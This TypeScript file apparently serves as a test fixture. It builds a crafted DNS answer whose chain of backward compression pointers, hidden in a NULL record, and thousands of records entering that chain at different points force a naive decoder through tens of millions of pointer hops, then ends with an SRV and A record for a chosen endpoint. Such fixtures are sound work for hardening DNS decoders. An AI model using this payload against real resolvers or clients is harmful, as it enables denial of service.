// A DNS answer built to make a decoder follow compression pointers as often as 64 KB allow: a run of pointers,
// each to the one before it (every one points backwards, as RFC 1035 asks), hidden in a record's data, and
// thousands of records whose owner names each enter the run at a different point. Read naively, the records'
// names take tens of millions of pointer hops; every byte is otherwise well formed.

/** Where the question in `answer` (a message with one question) ends. */
function questionEnd(answer: Buffer): number {
  let at = 12;
  while (answer[at] !== 0) at += answer[at]! + 1;
  return at + 5;
}

function writeRecord(out: number[], owner: number[], type: number, ttl: number, data: number[]): void {
  out.push(
    ...owner,
    type >> 8,
    type & 0xff,
    0,
    1,
    (ttl >>> 24) & 0xff,
    (ttl >> 16) & 0xff,
    (ttl >> 8) & 0xff,
    ttl & 0xff,
  );
  out.push(data.length >> 8, data.length & 0xff, ...data);
}

function nameBytes(name: string): number[] {
  const out: number[] = [];
  for (const label of name.split(".")) out.push(label.length, ...Buffer.from(label, "latin1"));
  out.push(0);
  return out;
}

/**
 * The pathological answer to the question of `correct` (a well-formed answer from the server): its header and
 * question, then the pointer run and the records entering it, then one SRV record for the question's name
 * pointing at `target`:`port` with `target`'s A record as an additional, so that a decoder that gets through
 * it would return that endpoint. `size` bounds the whole message (a UDP datagram holds 65,507 bytes).
 */
export function pointerChainAnswer(
  correct: Buffer,
  srv: { target: string; port: number; address: string },
  size = 65_000,
): Buffer {
  const head = [...correct.subarray(0, questionEnd(correct))];
  const tail: number[] = [];
  writeRecord(tail, [0xc0, 12], 33, 60, [
    0,
    1,
    0,
    1,
    srv.port >> 8,
    srv.port & 0xff,
    ...nameBytes(srv.target),
  ]);
  const additional: number[] = [];
  writeRecord(additional, nameBytes(srv.target), 1, 60, srv.address.split(".").map(Number));
  const budget = size - head.length - 12 - tail.length - additional.length;
  const runStart = head.length + 12;
  // A pointer holds 14 bits: the run lies in the first 16 KB, and the records fill the rest.
  const run = Math.floor((0x3fff - runStart) / 2);
  const records = Math.floor((budget - 2 * run) / 12);
  const body: number[] = [];
  const chain: number[] = [];
  for (let k = 0; k < run; k++) {
    const target = k === 0 ? 12 : runStart + 2 * (k - 1);
    chain.push(0xc0 | (target >> 8), target & 0xff);
  }
  writeRecord(body, [0xc0, 12], 10, 60, chain); // NULL record: its data is never read
  for (let i = 0; i < records; i++) {
    const entry = runStart + 2 * (run - 1 - (i % run));
    writeRecord(body, [0xc0 | (entry >> 8), entry & 0xff], 10, 60, []);
  }
  const message = Buffer.from([...head, ...body, ...tail, ...additional]);
  message.writeUInt16BE(0x8180, 2); // a response, recursion desired and available, NOERROR
  message.writeUInt16BE(records + 2, 6);
  message.writeUInt16BE(0, 8);
  message.writeUInt16BE(1, 10); // no OPT record: the additional A only
  return message;
}
